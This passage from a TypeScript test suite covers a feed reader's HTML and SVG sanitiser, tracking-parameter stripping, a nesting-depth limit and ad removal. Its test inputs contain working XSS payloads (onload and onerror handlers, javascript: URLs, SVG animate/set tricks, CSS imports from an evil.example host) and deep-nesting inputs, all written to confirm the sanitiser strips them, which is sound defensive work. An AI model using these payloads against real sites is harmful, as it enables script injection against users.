    expect(clean('<math><mi>x</mi><p>After math</p>')).toBe('<p>After math</p>');
    expect(clean('<svg><svg onload=alert(1)><p>Twice</p>')).toBe('<p>Twice</p>');
    // Closed foreign content still goes whole, breakout tags inside it included.
    expect(clean('<svg><p>inside</p></svg><p>After</p>')).toBe('<p>After</p>');
    // Never fails open: what follows is sanitised like any other HTML.
    const out = expectSafe('<svg/onload=alert(1)><p>x<img src=x onerror=alert(1)><script>alert(2)</script></p>');
    expect(out).not.toContain('alert');
    expect(out).toContain('<p>x<img');
  });

  it('keeps the text of unknown wrappers and maps obsolete elements', () => {
    expect(clean('<font color="red"><center>centred</center></font> <strike>old</strike> <tt>mono</tt>')).toBe('centred <s>old</s> <code>mono</code>');
  });

  it('treats a title-like string with vectors as harmless text', () => {
    const title = `Breaking: <script>alert(1)</script> "quotes" & <img src=x onerror=alert(1)> 5 < 6 <b onmouseover=alert(1)>bold</b>`;
    const out = expectSafe(title);
    expect(out).toMatch(/^Breaking: {2}"quotes" &amp; <img src="https:\/\/blog\.example\.com\/2026\/11\/x" alt="" [^>]*\/> 5 &lt; 6 <b>bold<\/b>$/);
    expect(out).not.toContain('alert');
  });

  it('removes NUL characters, which PostgreSQL cannot store', () => {
    expect(clean('<p>a\0b<scr\0ipt>alert(1)</script></p>')).toBe('<p>ab</p>');
  });

  it('returns plain text unchanged', () => {
    expect(clean('Just text: javascript:alert(1) "quoted" > fine')).toBe('Just text: javascript:alert(1) "quoted" > fine');
    expect(viaBrowserParser(clean('a > b'))).toEqual([]);
  });

  it('returns an empty string for empty input', () => {
    expect(clean('')).toBe('');
  });
});

describe('stripTracking', () => {
  it('removes utm_* and click identifiers and nothing else', () => {
    expect(stripTracking('https://example.com/a?utm_source=x&UTM_Medium=y&gclid=1&mc_cid=2&mc_eid=3&_hsenc=4&_hsmi=5&mkt_tok=6&yclid=7&igshid=8&fbclid=9')).toBe(
      'https://example.com/a',
    );
    expect(stripTracking('https://example.com/a?b=1&utm_source=x&c=%20+d#frag')).toBe('https://example.com/a?b=1&c=%20+d#frag');
    expect(stripTracking('https://example.com/a?utm_source=x#frag')).toBe('https://example.com/a#frag');
    expect(stripTracking('https://example.com/a?utm%5Fsource=x&k=v')).toBe('https://example.com/a?k=v');
  });

  it('leaves URLs without tracking parameters untouched', () => {
    for (const url of ['https://example.com/', 'https://example.com/a?b=1&c', 'https://example.com/#?utm_source=x', 'not a url', 'https://example.com/a?utmost=1']) {
      expect(stripTracking(url)).toBe(url);
    }
  });
});

describe('sanitizeSvg', () => {
  const icon =
    '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE svg><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 32 32" width="32" height="32"><defs><linearGradient id="g" x1="0" y1="0" x2="1" y2="1"><stop offset="0" stop-color="#f80"/><stop offset="1" stop-color="#c40"/></linearGradient><clipPath id="c"><circle cx="16" cy="16" r="16"/></clipPath></defs><g clip-path="url(#c)"><rect width="32" height="32" fill="url(#g)"/><path d="M8 24 L24 8" stroke="#fff" stroke-width="3" stroke-linecap="round"/></g><use href="#c"/><title>Logo</title></svg>';

  function svgElements(svg: string): El[] {
    const out: El[] = [];
    const walk = (nodes: ReturnType<typeof parseDocument>['children']): void => {
      for (const node of nodes) {
        if (!DomUtils.isTag(node)) continue;
        out.push({ name: node.name, attrs: Object.entries(node.attribs), namespace: null });
        walk(node.children);
      }
    };
    walk(parseDocument(svg, { xmlMode: true }).children);
    return out;
  }

  it('keeps a normal icon intact, with case-sensitive names', () => {
    const out = sanitizeSvg(icon)!;
    expect(out).toMatch(/^<svg /);
    expect(out).toContain('viewBox="0 0 32 32"');
    expect(out).toContain('<linearGradient id="g"');
    expect(out).toContain('<clipPath id="c">');
    expect(out).toContain('fill="url(#g)"');
    expect(out).toContain('clip-path="url(#c)"');
    expect(out).toContain('<use href="#c"></use>');
    expect(out).toContain('<title>Logo</title>');
  });

  it('removes script, foreignObject, style, event handlers and external references', () => {
    const out = sanitizeSvg(
      `<svg viewBox="0 0 10 10" onload="alert(1)" style="x"><script>alert(1)</script><script><![CDATA[alert(2)]]></script><SCRIPT>alert(3)</SCRIPT><style>@import url(https://evil.example/x.css);</style><foreignObject><div xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></div></foreignObject><a href="javascript:alert(1)"><rect width="5" height="5"/></a><image href="https://evil.example/x.png"/><use xlink:href="https://evil.example/s.svg#a"/><use href="data:image/svg+xml,x#a"/><rect fill="url(https://evil.example/p.svg#p)" onclick="alert(1)" class="c" width="1" height="1"/><animate attributeName="href" to="javascript:alert(1)"/><set attributeName="onload" to="alert(1)"/></svg>`,
    )!;
    expect(out).not.toBeNull();
    const els = svgElements(out);
    expect([...new Set(els.map((e) => e.name))].sort()).toEqual(['rect', 'svg', 'use']);
    for (const el of els) {
      for (const [name, value] of el.attrs) {
        expect(name).not.toMatch(/^on|^style$|^class$/i);
        if (name.endsWith('href')) expect(value).toMatch(/^#/);
        expect(value).not.toMatch(/https?:\/\/evil|javascript:|data:/);
      }
    }
    expect(out).not.toMatch(/alert/);
  });

  it('adds the SVG namespace so the icon renders as an image', () => {
    expect(sanitizeSvg('<svg viewBox="0 0 1 1"><rect width="1" height="1"/></svg>')).toContain('xmlns="http://www.w3.org/2000/svg"');
  });

  it('returns null when there is no single <svg> root', () => {
    expect(sanitizeSvg('')).toBeNull();
    expect(sanitizeSvg('<html><body>not an svg</body></html>')).toBeNull();
    expect(sanitizeSvg('<script>alert(1)</script>')).toBeNull();
    expect(sanitizeSvg('text<svg></svg>')).toBeNull();
    expect(sanitizeSvg('<svg></svg><svg></svg>')).toBeNull();
    expect(sanitizeSvg('<g><path d="M0 0"/></g>')).toBeNull();
  });

  it('never lets dangerous fragments through (property)', () => {
    const fragments = [
      '<svg>',
      '</svg>',
      '<svg onload=alert(1)>',
      '<script>',
      '</script>',
      'alert(1)',
      '<foreignObject>',
      '</foreignObject>',
      '<use href="',
      '<use xlink:href="',
      'javascript:',
      'https://evil/',
      '#a',
      '"/>',
      '<rect ',
      'fill="url(',
      ')"',
      ' onclick="x"',
      '<![CDATA[',
      ']]>',
      '<style>',
      '</style>',
      ' style="',
      '<a href="',
      '</a>',
      '<image href="',
      '"',
      '>',
      '<',
      '<!--',
      '-->',
      '&lt;',
      '&#106;',
    ];
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...fragments), { maxLength: 30 }), (pieces) => {
        const out = sanitizeSvg(pieces.join(''));
        if (out === null) return;
        for (const el of svgElements(out)) {
          expect([
            'svg',
            'g',
            'path',
            'circle',
            'rect',
            'ellipse',
            'line',
            'polyline',
            'polygon',
            'defs',
            'symbol',
            'use',
            'linearGradient',
            'radialGradient',
            'stop',
            'clipPath',
            'mask',
            'title',
            'desc',
            'text',
            'tspan',
          ]).toContain(el.name);
          for (const [name, value] of el.attrs) {
            expect(name).not.toMatch(/^on|^style$/i);
            if (name.endsWith('href')) expect(value).toMatch(/^#/);
            expect(value).not.toMatch(/javascript:|https?:\/\/evil/);
          }
        }
      }),
      { numRuns: 400 },
    );
  });
});

describe('nesting bound (docs/decisions.md "Sanitising")', () => {
  const count = (html: string, s: string) => html.split(s).length - 1;

  it('flattens elements past 100 open ones, keeping their text and the structure above', () => {
    const n = 100_000;
    const out = sanitizeContent(`${'<div>'.repeat(n)}deep <b>text</b>${'</div>'.repeat(n)}<p>after</p>`, { baseUrl: BASE });
    expect(out).toBe(`${'<div>'.repeat(MAX_DEPTH)}deep text${'</div>'.repeat(MAX_DEPTH)}<p>after</p>`);
  });

  it('keeps everything of documents within the bound', () => {
    // MAX_DEPTH open elements at the deepest point: 99 divs and the b.
    const html = `${'<div>'.repeat(MAX_DEPTH - 1)}<b>x</b>${'</div>'.repeat(MAX_DEPTH - 1)}`;
    expect(sanitizeContent(html, { baseUrl: BASE })).toBe(html);
  });

  it('does not count siblings with implied end tags as depth', () => {
    const out = sanitizeContent(`${'<p>para'.repeat(500)}<ul>${'<li>item'.repeat(300)}</ul>`, { baseUrl: BASE });
    expect(count(out, '<p>')).toBe(500);
    expect(count(out, '<li>')).toBe(300);
  });

  it('still drops scripts and styles past the bound, with their content', () => {
    const out = sanitizeContent(`${'<span>'.repeat(150)}a<script>alert(1)</script><style>p{}</style>b${'</span>'.repeat(150)}`, { baseUrl: BASE });
    expect(out).not.toMatch(/alert|p\{\}|<script|<style/);
    expect(out).toContain('ab');
    expect(count(out, '<span>')).toBe(MAX_DEPTH);
  });
});

describe('sanitizeContent: ads, affiliate links and tracking in feed content (reader/ads)', () => {
  const clean = (html: string) => sanitizeContentWithText(html, { baseUrl: 'https://blog.example/post' });

  it('drops ad labels, disclosure and shop boxes, and blocks with an ad class, keeping the article', () => {
    const body = `<p>${'Ein ganz normaler Absatz über Kameras und ihre Objektive. '.repeat(4)}</p>`;
    const out = clean(
      `${body}<p>Anzeige</p><div class="ad-slot"><p>Kauf mich</p></div><div><p>Jetzt kaufen bei Amazon</p></div><p>Als Amazon-Partner verdiene ich an qualifizierten Verkäufen.</p>${body}`,
    );
    expect(out.html).not.toMatch(/Anzeige|Kauf mich|Jetzt kaufen|Amazon-Partner/);
    expect(out.text).not.toMatch(/Anzeige|Kauf mich|Jetzt kaufen|Amazon-Partner/);
    expect(out.html.match(/Ein ganz normaler Absatz/g)).toHaveLength(8);
  });

  it('keeps a sentence that merely mentions Werbung, and an item that is all about a disclosure', () => {
    const sentence = '<p>Die Werbung im Fernsehen wird seit Jahren lauter, sagt die Studie, und niemand mag sie.</p>';
    expect(clean(sentence).html).toContain('Die Werbung im Fernsehen');
    const disclosure = '<p>Als Amazon-Partner verdiene ich an qualifizierten Verkäufen.</p>';
    expect(clean(disclosure).html).toContain('Amazon-Partner');
  });

  it('cleans affiliate and tracking links, and unwraps an affiliate link without a readable target', () => {
    const out = clean(
      '<p><a href="https://www.amazon.de/dp/B0TEST?tag=blog-21&amp;th=1">Kamera</a> und <a href="https://news.example/a?utm_source=feed&amp;id=7">Bericht</a> und <a href="https://amzn.to/3abc">Kurzlink</a></p>',
    );
    expect(out.html).not.toMatch(/tag=blog-21|utm_source|amzn\.to/);
    expect(out.html).toContain('href="https://news.example/a?id=7"');
    expect(out.html).toContain('Kurzlink');
  });

  it('takes back a long run of short ad blocks, nested a little, without losing the clean text after it', () => {
    const hostile = `${'<div><section><p>Anzeige</p></section></div>'.repeat(5000)}<p>${'Clean text that follows. '.repeat(40)}</p>`;
    const out = clean(hostile);
    expect(out.html).toContain('Clean text that follows.');
    expect(out.html).not.toContain('Anzeige');
  });
});
